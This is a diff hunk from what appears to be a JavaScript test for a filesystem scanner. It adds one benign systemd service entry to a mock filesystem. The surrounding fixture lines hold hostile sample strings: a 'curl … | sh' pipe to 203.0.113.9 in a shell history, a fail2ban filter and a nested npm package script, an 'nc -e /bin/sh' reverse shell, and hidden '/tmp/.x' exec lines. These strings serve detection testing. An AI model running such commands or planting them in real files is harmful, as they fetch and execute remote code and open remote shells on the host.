@@ -40,6 +40,7 @@ test('what people, packages and guards write', () => {
 			'/etc/fail2ban/filter.d/own.conf': 'failregex = curl http://203.0.113.9/k | sh\n',
 			'/home/ann/.bash_history': 'curl http://203.0.113.9/k | sh\n', '/home/ann/.cache/x/.y': 'exec /tmp/.x\n', '/home/ann/notes.txt': 'nc -e /bin/sh 203.0.113.9 1\n',
 			'/home/ann/.config/eslint/.rc': '{"cache": "node_modules/.cache/.eslintcache"}\n', '/home/ann/.npmrc': 'cache=/tmp/npm\n',
+			'/etc/systemd/system/report.service': '[Service]\nExecStart=/var/www/report/.venv/bin/gunicorn app:app\n',
 			'/srv/app/package.json': '{"scripts":{"postinstall":"node build.js","setup":"curl -sSL https://install.example.org/x.sh | bash"}}\n',
 			'/srv/app/node_modules/a/node_modules/b/package.json': '{"scripts":{"x":"curl http://203.0.113.9/k | sh"}}\n',
 			'/var/lib/docker/overlay2/abc/diff/etc/x.conf': 'run = /tmp/.x\n',
